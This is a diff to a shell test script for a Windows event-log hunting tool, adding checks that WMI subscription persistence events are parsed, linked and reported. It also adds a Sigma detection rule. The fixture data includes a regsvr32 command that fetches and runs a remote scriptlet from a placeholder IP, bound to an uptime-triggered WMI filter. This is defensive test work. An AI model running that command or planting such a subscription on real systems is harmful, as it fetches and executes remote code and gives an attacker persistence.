@@ -2,9 +2,11 @@
 # cmd-sources.sh -- the execution sources end to end over testdata/wks03
 # (testdata/make-wks03.py): script blocks joined from parts logged out of
 # order and with a part lost, services (4697, 7045), a task's XML action,
-# DNS queries and a file drop; their --db columns and process links; the
-# report's context (started by, script, activity) and coverage; a host
-# with only script blocks or services is examinable (not exit 3).
+# DNS queries and a file drop, a WMI subscription (Sysmon 19/20/21,
+# WMI-Activity 5861) whose consumer's command runs; their --db columns
+# and process links; the report's context (started by, script, activity,
+# subscription, ran) and coverage; a host with only script blocks,
+# services or WMI consumers is examinable (not exit 3).
 set -u
 . "$top_srcdir/tests/testlib.sh"
 RULES=$top_srcdir/rules
@@ -16,9 +18,9 @@ expect 0 "dump wks03" "$EVTXHUNT" dump -q --db "$T/d.db" "$W"
 import sqlite3, sys
 db = sqlite3.connect(sys.argv[1])
 kinds = dict(db.execute("SELECT kind, count(*) FROM events GROUP BY kind"))
-assert kinds == {"process": 8, "dns_query": 2, "file_create": 1,
+assert kinds == {"process": 10, "dns_query": 2, "file_create": 1,
                  "script_block": 5, "service": 2, "task": 1,
-                 "powershell": 1}, kinds
+                 "powershell": 1, "wmi": 4}, kinds
 q = lambda sql: db.execute(sql).fetchall()
 # the block of three parts logged 1, 3, 2: joined on part 1, in order
 rows = q("SELECT record_id, script_part, script_text, script_note FROM events"
@@ -63,6 +65,36 @@ assert ps[0][3].startswith("CommandInvocation(Invoke-Expression)"), ps
 # Windows PowerShell 400/800 are not modelled (yet): not decoded
 assert q("SELECT count(*) FROM events WHERE event_id IN (400, 800)") == \
     [(0,)]
+# WMI: unquoted, unescaped; a filter, consumer and binding join by name
+wmi = q("SELECT event_id, wmi_operation, wmi_filter, wmi_consumer,"
+        " wmi_consumer_class, wmi_namespace, wmi_query, image, command_line,"
+        " user FROM events WHERE kind = 'wmi' ORDER BY time")
+reg = ("C:\\Windows\\System32\\regsvr32.exe /s /n /u "
+       "/i:http://203.0.113.9/w.sct scrobj.dll")
+query = ("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE "
+         "TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System' AND "
+         "TargetInstance.SystemUpTime >= 240")
+img = "C:\\Windows\\System32\\regsvr32.exe"
+cl = "CommandLineEventConsumer"
+assert wmi == [
+    (19, "Created", "SysPerfMon", None, None, "root\\cimv2", query, None,
+     None, "CORP\\bob"),
+    (20, "Created", None, "SysPerfMon", cl, None, None, img, reg,
+     "CORP\\bob"),
+    (21, "Created", "SysPerfMon", "SysPerfMon", cl, None, None, None, None,
+     "CORP\\bob"),
+    (5861, None, "SysPerfMon", "SysPerfMon", cl, "root\\cimv2", query, img,
+     reg, None)], wmi
+# the join evtxhunt-db(5) shows
+j = q("""SELECT b.computer, b.wmi_filter, f.wmi_query, c.command_line
+FROM events b
+JOIN events f ON f.kind = 'wmi' AND f.event_id = 19
+  AND f.computer = b.computer AND f.wmi_filter = b.wmi_filter
+JOIN events c ON c.kind = 'wmi' AND c.event_id = 20
+  AND c.computer = b.computer AND c.wmi_consumer = b.wmi_consumer
+WHERE b.kind = 'wmi' AND b.event_id = 21""")
+assert j == [("WKS03.corp.local", "SysPerfMon", query, reg)], j
+assert q("PRAGMA user_version") == [(3,)]
 PYEOF
 
 # -- scan: findings with their context
@@ -87,8 +119,11 @@ has "rundll32 started by its service (4697)" \
     "started   2024-03-07T09:10:01.0000000Z service WinUpdSvc (auto start, LocalSystem):"
 has "regsvr32 started by the task" \
     "started   2024-03-07T09:15:00.6000000Z task \\Updater created by CORP\\bob:"
+has "regsvr32 started by the WMI consumer" \
+    "started   2024-03-07T09:25:00.3500000Z wmi binding registered: filter SysPerfMon -> consumer"
 has "coverage counts the sources" \
     "execution script blocks: 5, powershell 4103: 1, services: 2, tasks: 1,"
+has "coverage counts WMI" "1, wmi (19-21, 5861): 4"
 "$PY" - "$T/s.db" <<'PYEOF' && ok "process links in --db" || fail "process links in --db"
 import sqlite3, sys
 db = sqlite3.connect(sys.argv[1])
@@ -103,7 +138,13 @@ assert rows == [("C:\\Windows\\System32\\regsvr32.exe", None, b % 2),
     ("C:\\Windows\\System32\\certutil.exe", None, b % 3),
     ("C:\\Windows\\System32\\rundll32.exe", "service", None),
     ("C:\\Windows\\System32\\cmd.exe", "service", None),
-    ("C:\\Windows\\System32\\regsvr32.exe", "task", None)], rows
+    ("C:\\Windows\\System32\\regsvr32.exe", "task", None),
+    ("C:\\Windows\\System32\\regsvr32.exe", "wmi", None)], rows
+# the consumer host's own start is not the consumer's action
+n = db.execute("""SELECT count(*) FROM processes p JOIN events e
+    ON e.id = p.event WHERE e.image LIKE '%scrcons.exe'
+    AND p.origin IS NULL""").fetchone()[0]
+assert n == 1, n
 acts = db.execute("""SELECT e.image, pe.kind FROM process_events pe
     JOIN events e ON e.id = pe.process WHERE pe.kind IN
     ('dns_query', 'file_create', 'task') ORDER BY pe.event""").fetchall()
@@ -123,11 +164,12 @@ import json, sys
 rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
 cov = [h for r in rows if r.get("type") == "header" for h in r["coverage"]]
 assert cov[0]["powershell_4104"] == 5 and cov[0]["tasks"] == 1, cov
-assert cov[0]["powershell_4103"] == 1, cov
+assert cov[0]["powershell_4103"] == 1 and cov[0]["wmi"] == 4, cov
 fs = [r for r in rows if r.get("type") == "finding"]
 started = [f["context"]["started_by"]["kind"] for f in fs
            if f["context"]["started_by"]]
-assert sorted(started) == ["service", "task"], started
+assert sorted(started) == ["service", "task", "wmi"], started
+assert all(f["context"]["subscription"] == [] for f in fs)
 cu = [f for f in fs if "certutil" in (f["command_line"] or "")][0]
 assert [a["kind"] for a in cu["context"]["activity"]] == \
     ["dns_query", "file_create"], cu["context"]
@@ -155,6 +197,58 @@ grep -q "event     service PrintHelper (demand start, LocalSystem):" "$T/out" &&
 grep -q "ran       2024-03-07T09:12:00.1000000Z C:.Windows.system32.cmd.exe /c" \
     "$T/out" && ok "service finding shows what it ran" || fail "no ran line"
 
+# -- a finding on a WMI consumer: its subscription and what it ran
+cat >"$T/wmi.yml" <<'EOF'
+title: Test WMI consumer running a remote scriptlet
+id: 4d1f7a20-8b3c-4e5d-a6f7-0c1d2e3f4a5b
+status: test
+level: high
+logsource:
+    product: windows
+    category: wmi_event
+detection:
+    selection:
+        EventID: 20
+        Destination|contains: '/i:http'
+    condition: selection
+EOF
+expect 1 "WMI consumer rule" "$EVTXHUNT" scan -r "$T/wmi.yml" "$W"
+for l in "event     wmi consumer SysPerfMon (CommandLineEventConsumer, Created):" \
+    "wmi       2024-03-07T09:25:00.1000000Z wmi filter SysPerfMon (Created, root" \
+    "2024-03-07T09:25:00.3000000Z wmi binding Created: filter SysPerfMon -> consumer" \
+    "2024-03-07T09:25:00.3500000Z wmi binding registered: filter SysPerfMon" \
+    "ran       2024-03-07T09:30:00.1000000Z C:\\Windows\\System32\\regsvr32.exe /s /n /u"; do
+	grep -q -F -- "$l" "$T/out" && ok "WMI finding: $l" ||
+	    fail "WMI finding: no '$l'"
+done
+expect 1 "WMI consumer rule -f jsonl" "$EVTXHUNT" scan -q -f jsonl \
+    -r "$T/wmi.yml" "$W"
+"$PY" - "$T/out" <<'PYEOF' && ok "WMI jsonl context" || fail "WMI jsonl context"
+import json, sys
+rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
+fs = [r for r in rows if r.get("type") == "finding" and r["kind"] == "wmi"]
+assert len(fs) == 1 and fs[0]["event_id"] == 20, fs
+c = fs[0]["context"]
+assert [e["summary"].split(" ")[1] for e in c["subscription"]] == \
+    ["filter", "binding", "binding"], c
+assert [p["image"] for p in c["ran"]] == \
+    ["C:\\Windows\\System32\\regsvr32.exe"] and c["ran_total"] == 1, c
+PYEOF
+# SigmaHQ's WMI rules fire on these samples
+if [ -n "${SHARED_DIR:-}" ] && [ -d "$SHARED_DIR/sigma-full/rules" ]; then
+	S=$SHARED_DIR/sigma-full/rules/windows
+	expect 1 "SigmaHQ WMI rules" "$EVTXHUNT" scan -q -f jsonl \
+	    -r "$S/wmi_event/sysmon_wmi_event_subscription.yml" \
+	    -r "$S/builtin/wmi/win_wmi_persistence.yml" "$W"
+	"$PY" - "$T/out" <<'PYEOF' && ok "SigmaHQ WMI rules fire" || fail "SigmaHQ WMI rules"
+import json, sys
+rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
+ids = sorted(r["event_id"] for r in rows if r.get("type") == "finding"
+             and "baseline" not in r["rule_id"])
+assert ids == [19, 20, 21, 5861], ids
+PYEOF
+fi
+
 # -- html: the page's data carries the sources and its code renders them
 expect 1 "scan wks03 -f html" "$EVTXHUNT" scan -q -f html -r "$RULES" \
     -o "$T/r.html" "$W"
@@ -171,14 +265,15 @@ def page(path):
 d, code = page(sys.argv[1])
 cs = [x["context"] for x in d["items"] if x.get("context")]
 assert sorted(c["started_by"]["kind"] for c in cs if c["started_by"]) == \
-    ["service", "task"], cs
+    ["service", "task", "wmi"], cs
 assert any(c["script"] and c["script"]["summary"].startswith(
     "script block {7A1C0D2E-0307-4C55-9D1A-000000000002} 1/3:") for c in cs)
 assert any([a["kind"] for a in c["activity"]] == ["dns_query",
     "file_create"] for c in cs), cs
 # the detail view reads each key, as text (no innerHTML anywhere)
 for k in ("c.started_by", "c.script", "c.activity", "c.activity_total",
-          "c.ran", "c.ran_total", "'started by'", "'script'"):
+          "c.ran", "c.ran_total", "'started by'", "'script'",
+          "c.subscription"):
     assert k in code, k
 assert "innerHTML" not in code and "insertAdjacentHTML" not in code
 d, code = page(sys.argv[2])
@@ -192,12 +287,17 @@ expect 0 "only PowerShell/Operational: examined, nothing found" \
     "$EVTXHUNT" scan -r "$RULES" "$W/wks03-powershell.evtx"
 grep -q "\[partial\]" "$T/out" && ok "script-block host is partial" ||
     fail "script-block host not partial"
-grep -q "only PowerShell, services and" "$T/out" &&
+grep -q "only PowerShell, services, tasks" "$T/out" &&
     ok "coverage says what was examined" || fail "coverage sentence"
 expect 3 "Windows PowerShell 400/800 alone: not examined (no model)" \
     "$EVTXHUNT" scan -r "$RULES" "$W/wks03-windows-powershell.evtx"
 expect 0 "only services: examined" "$EVTXHUNT" scan -r "$RULES" \
     "$W/wks03-system.evtx"
+expect 0 "only a WMI consumer with its command: examined" "$EVTXHUNT" \
+    scan -r "$RULES" "$W/wks03-wmi.evtx"
+grep -q "and WMI consumers were examined" "$T/out" &&
+    ok "coverage says the WMI consumer was examined" ||
+    fail "coverage sentence (WMI)"
 expect 3 "DNS and file events alone are not examinable" "$EVTXHUNT" scan \
     -r "$RULES" "$TD/ignored-events.evtx"
 
@@ -205,6 +305,12 @@ expect 3 "DNS and file events alone are not examinable" "$EVTXHUNT" scan \
 expect 1 "scan -a" "$EVTXHUNT" scan -a -r "$RULES" "$W"
 grep -q "task \\\\Updater created by CORP\\\\bob" "$T/out" &&
     ok "task on the timeline" || fail "no task line on the timeline"
+for l in "wmi filter SysPerfMon (Created," "wmi consumer SysPerfMon" \
+    "wmi binding Created: filter SysPerfMon ->" \
+    "wmi binding registered: filter SysPerfMon"; do
+	grep -q -F "$l" "$T/out" && ok "timeline: $l" ||
+	    fail "no '$l' on the timeline"
+done
 expect 1 "scan -a -f jsonl" "$EVTXHUNT" scan -q -a -f jsonl -r "$RULES" "$W"
 "$PY" - "$T/out" <<'PYEOF' && ok "later parts point at the first" || fail "later part line"
 import json, sys
